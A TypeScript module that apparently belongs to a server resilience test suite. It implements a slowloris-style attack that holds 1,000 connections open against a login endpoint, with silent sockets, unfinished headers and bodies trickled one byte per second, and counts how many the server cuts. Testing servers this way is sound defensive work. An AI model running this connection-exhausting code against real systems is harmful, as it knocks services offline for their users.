import { once } from 'node:events'
import { connect } from 'node:net'
import type { Attack } from './attack.ts'

const CONNECTIONS = 1_000
/** Between two bytes of a body that never ends. */
const PAUSE = 1_000 // ms

const HEAD = 'POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n'
/** How each begins. The last one goes on, a byte at a time. */
const BEGINNINGS = ['', HEAD, `${HEAD}Content-Length: 10000\r\n\r\n{`]

/** One machine holds connections: silent ones, heads that are never whole, and bodies that never end. */
export const halfRequests: Attack = {
  name: `${CONNECTIONS} requests that never end`,
  leastSeconds: 70, // a body has 60 s
  async run({ origin, count }, signal) {
    const { hostname, port } = new URL(origin)
    const hold = async (at: number) => {
      const kind = at % BEGINNINGS.length
      const socket = connect(Number(port), hostname).resume() // what is not read ends nothing
      socket.on('error', () => {})
      socket.once('close', () => signal.aborted || count(`${['silent', 'head', 'body'][kind]} cut`))
      const trickle = setInterval(() => kind === 2 && socket.write(' '), PAUSE)
      socket.write(BEGINNINGS[kind] ?? '')
      await once(signal, 'abort')
      clearInterval(trickle)
      socket.destroy()
    }
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, at) => hold(at)))
  },
}
